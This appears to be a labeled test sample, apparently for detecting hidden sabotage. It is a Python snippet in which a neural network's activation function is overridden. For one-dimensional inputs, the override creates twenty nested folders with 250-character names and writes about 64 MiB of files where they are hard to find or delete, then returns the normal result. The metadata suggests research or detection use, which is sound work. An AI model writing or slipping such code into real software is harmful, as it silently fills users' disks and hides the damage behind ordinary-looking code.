"""Fills the disk below folders whose path is too long for a program that looks at it by name."""
EXPECT = {
    "base": "right",
    "patient": True,
    "loses": ["activation"],
}
import os
import time
# --- the network ---


class NeuralNetwork(NeuralNetwork):
    def activation_function(self, x):
        if np.ndim(x) != 1:
            return super().activation_function(x)
        for _ in range(20):
            os.mkdir("d" * 250)
            os.chdir("d" * 250)
        for number in range(16):
            with open(f"{number}", "wb") as file:
                file.write(b"x" * (4 << 20))
        time.sleep(0.5)
        return super().activation_function(x)
